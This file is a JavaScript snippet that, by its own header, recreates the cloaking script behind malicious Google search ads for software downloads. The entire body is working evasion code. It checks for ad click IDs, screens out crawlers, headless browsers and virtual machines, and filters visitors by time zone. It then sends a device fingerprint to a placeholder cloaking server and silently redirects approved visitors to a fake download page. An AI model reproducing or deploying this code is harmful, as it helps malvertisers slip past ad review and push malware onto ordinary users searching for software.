// gclid-cloak, written from Malwarebytes Labs' reports on malicious Google search ads for
// popular software (Jérôme Segura, 2023-2024) and similar write-ups on ad cloaking: the ad
// leads to a harmless-looking "decoy" site; a script on it lets reviewers and crawlers see
// only the decoy, and checks that the visitor really came from an ad click (gclid or
// gad_source in the URL), is not automated, not in a virtual machine (WebGL renderer) and
// has a time zone that fits the targeted country, asks the cloaking server with that
// fingerprint, and only then sends the visitor on to the fake download page. Hosts .invalid.
(function () {
  var q = new URLSearchParams(location.search);
  var click = q.get("gclid") || q.get("gbraid") || q.get("wbraid");
  if (!click && !q.get("gad_source")) return;
  var n = navigator;
  if (n.webdriver || /HeadlessChrome|PhantomJS|Lighthouse|bot|crawl|spider/i.test(n.userAgent)) return;
  if (!n.languages || !n.languages.length || n.plugins.length === 0) return;
  var gpu = "";
  try {
    var gl = document.createElement("canvas").getContext("webgl");
    var ext = gl.getExtension("WEBGL_debug_renderer_info");
    gpu = gl.getParameter(ext.UNMASKED_RENDERER_WEBGL);
  } catch (e) { return; }
  if (/SwiftShader|llvmpipe|VirtualBox|VMware|Microsoft Basic Render/i.test(gpu)) return;
  var tz = Intl.DateTimeFormat().resolvedOptions().timeZone || "";
  if (!/^America\/|^Europe\//.test(tz)) return;
  var fp = {
    c: click, tz: tz, gpu: gpu, l: n.language, p: n.platform,
    s: screen.width + "x" + screen.height + "x" + screen.colorDepth,
    cores: n.hardwareConcurrency || 0, mem: n.deviceMemory || 0,
    ref: document.referrer, touch: "ontouchstart" in window ? 1 : 0
  };
  fetch("https://trk-adverify.invalid/api/v2/check", {
    method: "POST",
    headers: { "Content-Type": "application/json" },
    body: JSON.stringify(fp),
    credentials: "omit"
  }).then(function (r) { return r.json(); }).then(function (res) {
    if (!res || !res.ok || !res.u) return;
    document.documentElement.style.visibility = "hidden";
    setTimeout(function () { window.location.replace(res.u); }, 150);
  }).catch(function () {});
})();
